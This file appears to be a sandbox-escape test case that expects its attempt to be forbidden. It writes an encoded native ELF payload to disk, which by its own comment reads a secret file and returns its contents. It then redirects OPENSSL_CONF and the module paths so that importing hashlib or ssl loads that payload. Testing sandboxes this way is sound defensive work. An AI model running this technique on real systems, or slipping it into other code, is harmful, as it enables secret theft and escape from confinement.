# expect: forbidden
# ruff: noqa: SIM105, B023
# expect-kernel: ok
# Native code through a C library's configuration instead of an import: point OPENSSL_CONF (and the module and
# engine folders) at a config in scratch that activates a "provider" written there (x86_64 ELF whose constructor
# reads the file named in ./target and sends it back, or 2 when the kernel refuses), then let hashlib or ssl
# start OpenSSL. 1: the module never loaded.
import base64
import os
import posix
import zlib

SO = zlib.decompress(base64.b64decode("eNrtmkFrE0EUxyebpMYU3agVKkVcQ4VcXNtCQUvVpia6ga2NxIOHQljN2gTaVDbb0iClFCm4QsBDvXnwE4h4CvVgmpbWePRg8SqIip4EBT0YZ7Izye7QqAe9lPeD5L9vdt6bt/P2ssxbjKsXBY8HMbzoHGpZCI1QfXLcOXYadeD/ThRszPWh9nQLbkUhW4if32HzesjjVqdfYz2JjnOqILc6/TrIOJvX59aAx63MT6B+SeqX7HNrc7OYPzWvvDMzHejvYY8v0FAs34CjCGTszrONB7+LQ+YcxDsbOsDqSRlPpdT0LWNmLpfRjXQunzPdz88nAgAAAAAAAAAAAOwqomXy8Z/Yqj6s1+vx/pqy9DmCv0GV0uBbESHVqqjWtmq9FP3KcqXYUyafl8/JN+XqPtSYtY5nfXxMrq0tpWT2RlbrHuL3QvT3v8I+2F0RlSoOsRnzRUhAHApPXa7MP1VLV3vvrj5Cjfmq9Rq71BLWmnqmthCO3vMFh8PiSnV4YkRc2RwJfJn1DR9b9Ec3fcHzSn3t05uoI5mInUzMThnHqYwt13DEhJhYU6yqvWppcMy+r1g/SHbl9420txWysrK0QZ57vb+yDi8FAAAAAAAAAAAAsOswNWNSN9HtsKEXZqfM8NDAQtBhhVPRy7HR8Wsn46kL0WQ8JuU1MzenS4auZYYkFMaTKfTc+Ag12blyD7XZ+fLXn/UZovfpebmfjn+gNjszL1Obxe+i2km1m+oetr7gXofd38vZ3+v2+p7/taFyIVswDVO7juTJ/Kyc1QpZJGeK+UJx2lbTQLKhT2nEQLKpz5vYnslopoZkPZu+aWjTOpLJAX1aMwyt2PDSpnM3/kl6ZP++4T1g7RisDkx73dvZ6gugHKYxBK5OTFlbhJfuMV+Po/SewNWdaRe3Hl+nE8ju/xC4ujPtbpM/Gz+FWr0VzveW7ztpt/4gHRtgA5JbR9vkz/QsvWb5NftRpJ3rxe//Jfzbj1p9Hc0+Fmnn+QFOU/TZmX+zn0VyJ+rl/EKO294d8kzS/qCJP9TvF89cxHg="))


def check(**p):
    with open("target", "w") as fh:
        fh.write(p["secret_file"])
    here = os.getcwd()
    with open("provider.so", "wb") as fh:
        fh.write(SO)
    with open("evil.cnf", "w") as fh:
        fh.write("openssl_conf = init\n[init]\nproviders = prov\nengines = eng\n[prov]\nevil = evil_sect\n"
                 f"[evil_sect]\nmodule = {here}/provider.so\nactivate = 1\n"
                 f"[eng]\nevil = eng_sect\n[eng_sect]\ndynamic_path = {here}/provider.so\n")
    for name, value in (("OPENSSL_CONF", f"{here}/evil.cnf"), ("OPENSSL_MODULES", here), ("OPENSSL_ENGINES", here)):
        for setter in (lambda: os.environ.__setitem__(name, value), lambda: posix.putenv(name, value),
                       lambda: os.putenv(name.encode(), value.encode())):
            try:
                setter()
            except Exception:
                pass
    for module in ("_hashlib", "hashlib", "_ssl", "ssl"):
        try:
            __import__(module)
        except Exception:
            pass
    return 1
